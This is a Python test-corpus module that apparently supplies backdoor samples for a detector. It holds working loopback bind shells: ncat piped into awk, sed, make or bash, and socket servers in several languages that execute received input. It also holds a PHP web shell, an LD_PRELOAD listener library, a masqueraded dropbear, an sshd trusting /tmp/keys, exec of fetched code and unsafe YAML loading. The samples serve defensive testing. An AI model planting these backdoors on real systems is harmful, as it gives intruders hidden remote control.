"""Ways in by odd tools, loaded libraries, settings, and file systems that are gone."""

from __future__ import annotations

from tests.corpus.case import Kind
from tests.corpus.side_doors import case

_A = Kind.ATTACK
_SHELL, _PIPE = "shell-on-socket", "pipe-to-shell"
_S = "import socket\ns = socket.create_server(('127.0.0.1', @port@))\n"
ACCEPTS = _S + "while True:\n    c, _ = s.accept()\n"
HTTP = (
    "require('http').createServer((q, r) => { let b = ''; q.on('data', d => b += "
    "d); q.on('end', () => { BODY }) }).listen(@port@, '127.0.0.1')"
)
_LIB = r"""#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void go(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    char *p = getenv("P_P");
    if (!p) return;
    struct sockaddr_in a = {AF_INET, htons(atoi(p)), {htonl(INADDR_LOOPBACK)}};
    bind(s, (void *)&a, sizeof a); listen(s, 5);
}
"""
_RUST = r"""use std::io::{BufRead,BufReader,Write};
fn main() { let p = std::env::args().nth(1).unwrap();
 let l = std::net::TcpListener::bind(format!("127.0.0.1:{}", p)).unwrap();
 for c in l.incoming() { let mut c = c.unwrap(); let mut s = String::new();
  BufReader::new(c.try_clone().unwrap()).read_line(&mut s).unwrap();
  BODY } }
"""
PAGES = ("php", "-S", "127.0.0.1:@port@", "-t", "@home@/web")

ODD_ATTACKS = (
    case(
        "ncat into awk",
        _A,
        ("sh", "-c", "sleep 600 | ncat -lk 127.0.0.1 @port@ | awk '{ system($0) }'"),
        code=_PIPE,
        at_least="suspicious",
        needs=("ncat",),
    ),
    case(
        "ncat into sed",
        _A,
        ("sh", "-c", "ncat -lk 127.0.0.1 @port@ | sed e"),
        code=_PIPE,
        at_least="suspicious",
        needs=("ncat",),
    ),
    case(
        "ncat into make",
        _A,
        ("sh", "-c", "ncat -l 127.0.0.1 @port@ | make -f -"),
        code=_PIPE,
        at_least="suspicious",
        needs=("ncat",),
    ),
    case(
        "ncat into a shell's loop",
        _A,
        ("bash", "-c", "ncat -lk 127.0.0.1 @port@ | while read -r l; do $l; done"),
        code=_PIPE,
        at_least="suspicious",
        needs=("ncat",),
    ),
    case(
        "gateway of busybox",
        _A,
        ("busybox", "httpd", "-f", "-p", "127.0.0.1:@port@", "-h", "@home@/web"),
        ("web/cgi-bin/x.sh", '#!/bin/sh\necho\neval "$QUERY_STRING"\n'),
        code=_SHELL,
        needs=("busybox",),
    ),
    case(
        "libc's system by ctypes",
        _A,
        ("@python@", "@home@/a.py"),
        ("a.py", "import ctypes\n" + ACCEPTS + "    ctypes.CDLL(None).system(c.recv(999))\n"),
        code=_SHELL,
    ),
    case(
        "zip of python",
        _A,
        ("sh", "-c", "cd @home@ && @python@ -m zipapp src -o tool.pyz && exec @python@ tool.pyz"),
        (
            "src/__main__.py",
            "import subprocess\n"
            + ACCEPTS
            + "    c.send(subprocess.getoutput(c.recv(99).decode()).encode())\n",
        ),
        code=_SHELL,
    ),
    case(
        "package of python by -m",
        _A,
        ("@python@", "-m", "tool"),
        ("tool/__init__.py", ""),
        ("tool/__main__.py", "from .core import go\ngo()\n"),
        (
            "tool/core.py",
            (
                "import os, socket\ndef go():\n"
                "    s = socket.create_server(('127.0.0.1', @port@))\n    while True:\n"
                "        c, _ = s.accept()\n        os.system(c.recv(99).decode())\n"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "code from a web site",
        _A,
        ("@python@", "@home@/a.py"),
        (
            "a.py",
            (
                "import urllib.request\ntry:\n"
                "    exec(urllib.request.urlopen('http://127.0.0.1:1/x').read())\n"
                "except OSError:\n    pass\n"
            )
            + ACCEPTS
            + "    c.close()\n",
        ),
        code=None,
    ),
    case(
        "functions of os by XML-RPC",
        _A,
        ("@python@", "@home@/a.py"),
        (
            "a.py",
            (
                "import os\nfrom xmlrpc.server import SimpleXMLRPCServer\n"
                "s = SimpleXMLRPCServer(('127.0.0.1', @port@))\ns.register_instance(os)\n"
                "s.serve_forever()\n"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "node's worker",
        _A,
        ("node", "@home@/a.js"),
        (
            "a.js",
            "const { Worker } = require('worker_threads');\n"
            + HTTP.replace("BODY", "new Worker(b, { eval: true }); r.end()"),
        ),
        code=_SHELL,
    ),
    case(
        "ruby that evaluates in an object",
        _A,
        ("ruby", "@home@/a.rb"),
        (
            "a.rb",
            (
                "require 'socket'\ns = TCPServer.new('127.0.0.1', @port@)\nloop do\n"
                "  c = s.accept\n  c.puts Object.new.instance_eval(c.gets)\nend\n"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "ruby that sends a name",
        _A,
        ("ruby", "@home@/a.rb"),
        (
            "a.rb",
            (
                "require 'socket'\ns = TCPServer.new('127.0.0.1', @port@)\nloop do\n"
                "  c = s.accept\n  n, a = c.gets.split(' ', 2)\n  c.puts Kernel.send(n, a)\n"
                "end\n"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "page that calls by name",
        _A,
        PAGES,
        ("web/index.php", "<?php $f = $_GET['f']; echo $f($_GET['c']);"),
        code=_SHELL,
    ),
    case(
        "settings of gunicorn",
        _A,
        ("gunicorn", "shop:app"),
        ("shop.py", "def app(e, s):\n    s('200 OK', [])\n    return []\n"),
        (
            "gunicorn.conf.py",
            (
                "import subprocess, threading, socket\nbind = '127.0.0.1:@port@'\n"
                "def on_starting(server):\n    def go():\n"
                "        s = socket.create_server(('127.0.0.1', 0))\n        while True:\n"
                "            c, _ = s.accept()\n"
                "            subprocess.Popen('sh', stdin=c, stdout=c)\n"
                "    threading.Thread(target=go, daemon=True).start()\n"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "library in /tmp loaded first",
        _A,
        (
            "sh",
            "-c",
            (
                "cc -w -shared -fPIC -o @tmp@/l.so @home@/l.c && P_P=@port@ "
                "LD_PRELOAD=@tmp@/l.so exec sleep 600"
            ),
        ),
        ("l.c", _LIB),
        code=None,
        needs=("cc",),
    ),
    case(
        "sleep that listens",
        _A,
        (
            "sh",
            "-c",
            (
                "mkdir -p @home@/lib && cc -w -shared -fPIC -o @home@/lib/l.so @home@/l.c && "
                "P_P=@port@ LD_PRELOAD=@home@/lib/l.so exec sleep 600"
            ),
        ),
        ("l.c", _LIB),
        code=None,
        needs=("cc",),
    ),
    case(
        "image of a file system that is gone",
        _A,
        (
            "sh",
            "-c",
            (
                "mkdir @home@/m && mount -t tmpfs x @home@/m && cp @listener@ @home@/m/agent "
                "&& (cd / && exec @home@/m/agent @port@) & sleep 1; umount -l @home@/m; wait"
            ),
        ),
        code=None,
        needs=("root", "cc"),
    ),
    case(
        "dropbear by another name",
        _A,
        (
            "sh",
            "-c",
            (
                "mkdir -p @home@/bin && cp /usr/sbin/dropbear @home@/bin/dbus-daemon && exec "
                "@home@/bin/dbus-daemon -F -E -R -r @home@/key -p 127.0.0.1:@port@"
            ),
        ),
        code="masquerade",
        at_least="suspicious",
        needs=("dropbear",),
    ),
    case(
        "sshd for any key in /tmp",
        _A,
        (
            "/usr/sbin/sshd",
            "-D",
            "-f",
            "/dev/null",
            "-h",
            "@home@/key",
            "-p",
            "@port@",
            "-o",
            "ListenAddress=127.0.0.1",
            "-o",
            "AuthorizedKeysFile=/tmp/keys",
            "-o",
            "PidFile=none",
        ),
        code="logins-by-other-terms",
        needs=("sshd", "ssh-keygen"),
    ),
    case(
        "git for everybody",
        _A,
        (
            "git",
            "daemon",
            "--reuseaddr",
            "--enable=receive-pack",
            "--export-all",
            "--base-path=@home@",
            "--port=@port@",
            "--listen=0.0.0.0",
        ),
        code="open-service",
        needs=("git",),
    ),
    case(
        "java debugger for everybody",
        _A,
        (
            "java",
            "-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:@port@",
            "@home@/A.java",
        ),
        (
            "A.java",
            (
                "public class A { public static void main(String[] a) throws Exception { "
                "Thread.sleep(600000); } }"
            ),
        ),
        code="open-service",
    ),
    case(
        "perl by raw sockets",
        _A,
        ("perl", "@home@/a.pl"),
        (
            "a.pl",
            (
                "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); bind(S, sockaddr_in(@port@, "
                "INADDR_LOOPBACK)); listen(S, 5);\n"
                "while (accept(C, S)) { next if fork; open(STDIN, '<&C'); open(STDOUT, '>&C'); "
                "exec { '/bin/sh' } 'cron'; }\n"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "perl that qx's a header",
        _A,
        ("perl", "@home@/a.pl"),
        (
            "a.pl",
            (
                "use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1', "
                "LocalPort => @port@, Listen => 5);\n"
                "while (my $c = $s->accept) { while (<$c>) { if (/^X-Run: (.*)/) { print $c "
                "qx{$1}; } } }\n"
            ),
        ),
        code=_SHELL,
    ),
    case(
        "python's deserialised yaml",
        _A,
        ("@python@", "@home@/a.py"),
        (
            "a.py",
            "try:\n    import yaml\nexcept ImportError:\n    yaml = None\n"
            + ACCEPTS
            + "    yaml.load(c.recv(9999), Loader=yaml.UnsafeLoader)\n",
        ),
        code=_SHELL,
    ),
    case(
        "chrooted listener of tmpfs",
        _A,
        (
            "sh",
            "-c",
            (
                "exec unshare -m sh -c 'mount -t tmpfs x /mnt && cp @listener@ /mnt/agent && "
                "exec /mnt/agent @port@'"
            ),
        ),
        code=None,
        needs=("root", "cc"),
    ),
)
